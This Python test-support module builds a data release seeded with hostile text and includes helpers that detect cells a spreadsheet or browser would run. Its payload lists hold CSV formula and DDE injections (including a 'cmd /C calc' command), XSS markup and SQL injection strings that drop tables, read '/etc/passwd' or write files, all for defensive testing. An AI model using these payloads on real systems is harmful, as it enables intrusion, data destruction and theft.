"""Texts that somebody may have put where a name stands, and a release full of them.

Belongs here: what attackers write, and who else reads it: what a spreadsheet would run, what a
browser would run. Does not belong here: the product's own rules for either.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections import Counter
from collections.abc import Iterator, Sequence
from html.parser import HTMLParser
from pathlib import Path

import polars as pl

from tests.support.published_release import write_release

RAN = "ran"
"""What a script of these texts would set on the window."""
FORMULAS = (
    "=1+1", "=HYPERLINK(\"http://127.0.0.2/?\"&A1)", "+1+1", "-1+1", "@SUM(1+1)",
    "=cmd|' /C calc'!A0", "|calc", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00a0=1+1", "\t1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "Oppdal;=1+1", "Oppdal,=1+1", "Oppdal\t@SUM(1)",
    "Oppdal,＝1+1", '";=1+1;"', "=IMPORTXML(CONCAT(1),1)", "DDE;=MSEXCEL|'x'!A1",
)  # fmt: skip
MARKUP = (
    f"<script>window.{RAN}=1</script>", f"<img src=x onerror=window.{RAN}=1>",
    f"<svg onload=window.{RAN}=1>", f"\"><script>window.{RAN}=1</script>",
    f"'><img src=x onerror='window.{RAN}=1'>", f"</caption><script>window.{RAN}=1</script>",
    f"<a href=\"javascript:window.{RAN}=1\">x</a>", f"<iframe srcdoc='<script>parent.{RAN}=1'>",
    f"<style>*{{background:url(javascript:window.{RAN}=1)}}</style>", "<b>fet</b>",
    f"[x](javascript:window.{RAN}=1)", f"<math><mi xlink:href=javascript:window.{RAN}=1>",
    "&lt;script&gt;", "#eval(\"1+1\")", "#include \"/etc/passwd\"", "$1+1$", "<!-- -->",
)  # fmt: skip
_CLOSINGS = ("'", '"', "')", "'))", "5001'", "0", "%' ", "`", "]", "\\'", "／'", "ʼ")
_STATEMENTS = (
    "or 1=1 --", "or '1'='1", "union all select * from published.indicator_values --",
    "; drop table areas; --", "; select * from read_parquet('**'); --", "or true #",
    "and 1=0 union select null, null, null --", "; attach '/etc/passwd' as x; --",
    "or exists (select 1 from duckdb_tables()) --", "|| (select current_setting('home')) ||",
    "; copy areas to '/tmp/x'; select '", "/**/or/**/1=1/**/--", "or 1=1/*", "having 1=1 --",
    "order by 99 --", "; install httpfs; load httpfs; --", "or area_code like '%", "\x00or 1=1 --",
)  # fmt: skip
INJECTIONS = tuple(f"{start} {rest}" for start in _CLOSINGS for rest in _STATEMENTS)
NAMES = (*FORMULAS, '"=1+1"', *MARKUP, *INJECTIONS[:: len(_STATEMENTS) + 1])
_TEXTS = {
    "areas": ("name", "official_name", "county"),
    "indicators": ("title", "short_title", "unit_text", "definition", "numerator_text"),
    "caveats": ("text",),
    "breaks": ("text",),
    "area_groups": ("kind_text", "label"),
    "release": ("licence", "contact"),
}


def write_hostile_release(home: Path, names: Sequence[str] = NAMES) -> Path:
    """A release whose names and texts begin with one of ``names`` and end with some markup."""
    folder = write_release(home)
    for table, fields in _TEXTS.items():
        path = folder / f"{table}.parquet"
        rows = pl.read_parquet(path)
        columns = [name for name in rows.columns if re.sub("_(nb|nn|en)$", "", name) in fields]
        before, after = (
            pl.Series([texts[place % len(texts)] for place in range(rows.height)], dtype=pl.String)
            for texts in (names, MARKUP)
        )
        rows.with_columns(
            (before + pl.col(name) + after).alias(name) for name in columns
        ).write_parquet(path)
    return folder


def live_cells(cells: Sequence[str]) -> list[str]:
    """Cells of a file that some spreadsheet would run, whatever separator it splits them at."""
    return [cell for cell in cells if any(_runs(part) for part in _parts(cell))]


def live_copies(cells: Sequence[str]) -> list[str]:
    """Cells of a page that would be run where the table is pasted: those are not split again."""
    return [cell for cell in cells if _runs(cell)]


def _parts(cell: str) -> Iterator[str]:
    """The cell without the blanks around it, and its pieces at other separators."""
    yield cell.strip() if cell[:1] not in "\t\r\n" else cell
    yield from re.split(r"[;,\t\r\n]", cell)[1:]


def _runs(text: str) -> bool:
    if not text:
        return False
    plain = unicodedata.normalize("NFKC", text[0])
    return plain in "=+-@|\t\r\n" and re.fullmatch(r"[+-]?\d[\d .,]*(e[+-]?\d+)?%?", text) is None


def csv_cells(content: bytes, separator: str) -> list[str]:
    """All cells of a CSV."""
    read = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=separator)
    return [cell for row in read for cell in row]


class Markup(HTMLParser):
    """What a browser makes of a page: its tags, what could run, the text of its table cells."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: Counter[str] = Counter()
        self.running: list[str] = []
        self.cells: list[str] = []
        self._in_cell = False
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note the tag and what could run in it."""
        self.tags[tag] += 1
        for name, value in attrs:
            if name.startswith("on") or "javascript:" in (value or ""):
                self.running.append(f"{tag} {name}={value}")
        if tag in ("th", "td", "caption"):
            self._in_cell = True
            self.cells.append("")

    def handle_endtag(self, tag: str) -> None:
        """A cell ends: a copy of it has one blank for many."""
        if tag in ("th", "td", "caption") and self._in_cell:
            self.cells[-1] = " ".join(self.cells[-1].split())
            self._in_cell = False

    def handle_data(self, data: str) -> None:
        """Text inside a cell."""
        if self._in_cell:
            self.cells[-1] += data
